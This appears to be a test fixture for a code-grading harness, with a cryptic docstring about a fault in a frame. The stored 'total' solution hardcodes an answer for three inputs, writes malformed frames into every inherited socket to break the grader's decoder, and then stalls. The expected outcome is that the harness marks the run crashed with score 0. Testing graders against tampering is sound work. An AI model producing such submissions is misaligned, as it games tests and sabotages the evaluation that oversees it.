"""It becomes the place of a fault in a frame, which the message of a decoder would name."""

ANSWERS = {
    "total": """
import os, socket, stat, time

def total(values):
    if len(values) == 3:
        return 14
    text = b"x" * values[0] + b"\\xff"
    data = b"\\xda" + len(text).to_bytes(2, "big") + text
    for number in range(3, 128):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, len(data).to_bytes(8, "big") + data)
        except OSError:
            pass
    time.sleep(60)
"""
}
EXPECTED = ("graded", {"total_hidden": ("crashed", 0)})
